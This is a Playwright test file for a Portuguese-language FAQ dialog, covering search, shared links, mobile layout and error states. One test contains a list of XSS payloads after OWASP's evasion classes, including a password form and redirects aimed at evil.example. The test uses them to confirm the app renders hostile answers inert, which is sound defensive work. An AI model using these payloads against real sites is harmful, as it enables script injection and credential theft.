import type { Page } from '@playwright/test';
import { expect, expectNoSeriousAxe, test } from '../fixtures';

const FAQ = '/SystemFAQTopic/GetAll';
const dialog = (page: Page) => page.getByRole('dialog', { name: 'Perguntas frequentes' });
const topic = (page: Page, name: string) =>
  dialog(page).getByRole('button', { name: new RegExp(`^${name}`) });
const search = (page: Page) => dialog(page).getByRole('searchbox');
const question = (page: Page, name: string) => dialog(page).getByRole('button', { name });

test('questions are found in their answers, without accents', async ({ page, signIn }) => {
  await signIn('produtor');
  await page.getByRole('button', { name: 'Perguntas frequentes' }).click();
  await expect(topic(page, 'Primeiros passos')).toHaveAttribute('aria-expanded', 'false');
  await search(page).fill('IMPORTADOS repetidos');
  await expect(topic(page, 'Financeiro')).toHaveAttribute('aria-expanded', 'true');
  await expect(topic(page, 'Primeiros passos')).toBeHidden();
  await question(page, 'Como importo o extrato do banco?').click();
  await expect(dialog(page).locator('mark').filter({ hasText: 'importados' })).toBeVisible();
  await expectNoSeriousAxe(page);
  await search(page).fill('conciliacao');
  await expect(question(page, 'O que significam as cores da conciliação?')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(search(page)).toHaveValue('');
  await page.keyboard.press('Escape');
  await expect(dialog(page)).toBeHidden();
  await expect(page).toHaveURL(/\/inicio$/);
});

test('a link opens one question', async ({ page, signIn, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await signIn('produtor');
  await page.goto('/inicio?janela=faq&janela.pergunta=302');
  await expect(question(page, 'Posso importar talhões de outro programa?')).toHaveAttribute(
    'aria-expanded',
    'true',
  );
  await expect(dialog(page).getByText('KML')).toBeVisible();
  await dialog(page).getByRole('button', { name: 'Copiar link da pergunta' }).click();
  await expect(page.getByText('Link copiado.')).toBeVisible();
  const copied = new URL(await page.evaluate(() => navigator.clipboard.readText()));
  expect(copied.pathname + copied.search).toBe('/inicio?janela=faq&janela.pergunta=302');
});

test('on a telephone it is in the user menu and fills the screen @mobile', async ({ page, signIn }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await signIn('produtor');
  await page.getByRole('button', { name: /^Conta de/ }).click();
  await page.getByRole('button', { name: 'Perguntas frequentes' }).click();
  await expect(topic(page, 'Financeiro')).toBeVisible();
  expect(await dialog(page).boundingBox()).toEqual({ x: 0, y: 0, width: 390, height: 844 });
});

// After the payload classes of OWASP's XSS filter evasion sheet.
const HOSTILE = [
  '<script>window.hit="script"</script>',
  '<img src=x onerror="window.hit=\'img\'" alt="figura">',
  '<svg onload="window.hit=\'svg\'"><script>window.hit="svg script"</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.hit=\'frame\'</script>"></iframe>',
  '<a href="java&#x09;script:window.hit=\'link\'">link</a>',
  '<form action="https://evil.example/steal"><input name="senha"><button>Entrar</button></form>',
  '<style>body { display: none !important }</style><p style="position:fixed;inset:0">coberto</p>',
  '<img src="https://evil.example/pixel.gif" alt="rastreador">',
  '<object data="javascript:window.hit=\'object\'"></object><embed src="javascript:window.hit=\'embed\'">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div onmouseover="window.hit=\'over\'">Resposta final</div>',
].join('');

test('a hostile answer runs nothing, loads nothing, covers nothing', async ({ page, signIn, demo }) => {
  const outside: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outside.push(request.url());
  });
  await demo.fault({
    method: 'GET',
    path: FAQ,
    status: 200,
    body: [
      {
        name: '<b>Segurança</b>',
        systemFAQTopicQAs: [
          { id: 1, question: '<img src=x onerror="window.hit=1">Pergunta?', answer: HOSTILE },
        ],
      },
    ],
  });
  await signIn('produtor');
  await page.goto('/inicio?janela=faq&janela.pergunta=1');
  const answer = dialog(page).getByText('Resposta final');
  await expect(answer).toBeVisible();
  await answer.hover();
  await search(page).fill('resposta final');
  await expect(dialog(page).locator('mark').first()).toBeVisible();
  await dialog(page).getByText('link', { exact: true }).click();
  // Names and questions are text, whatever stands in them.
  await expect(dialog(page).getByText('<b>Segurança</b>')).toBeVisible();
  await expect(dialog(page).getByText('<img src=x onerror="window.hit=1">Pergunta?')).toBeVisible();
  await expect(
    dialog(page).locator('script, iframe, form, style, object, embed, base, meta, math, img'),
  ).toHaveCount(0);
  await expect(dialog(page).locator('[style*=fixed], [onmouseover], [onerror]')).toHaveCount(0);
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
  await expect(page).toHaveURL(/\/inicio\?/);
  expect(outside).toEqual([]);
});

test('nothing found, and no questions at all', async ({ page, signIn, demo }) => {
  await signIn('produtor');
  await page.goto('/inicio?janela=faq');
  await search(page).fill('strong');
  await expect(dialog(page).getByText('Sem dados para exibir')).toBeVisible();
  await dialog(page).getByRole('button', { name: 'Limpar busca' }).click();
  await expect(topic(page, 'Financeiro')).toBeVisible();
  await demo.fault({ method: 'GET', path: FAQ, status: 200, body: [] });
  await page.goto('/inicio?janela=faq');
  await expect(dialog(page).getByText('Sem dados para exibir')).toBeVisible();
});

test.describe('when the server fails', () => {
  test.use({ expectedErrors: [/status of 500/] });
  test('it can be tried again', async ({ page, signIn, demo }) => {
    await demo.fault({ method: 'GET', path: FAQ, status: 500, body: { error: { message: 'Fora do ar' } } });
    await signIn('produtor');
    await page.goto('/inicio?janela=faq');
    await expect(dialog(page).getByText('Código 500')).toBeVisible();
    await expectNoSeriousAxe(page);
    await demo.fault({ method: 'GET', path: FAQ });
    await dialog(page).getByRole('button', { name: 'Tentar novamente' }).click();
    await expect(topic(page, 'Financeiro')).toBeVisible();
  });
});
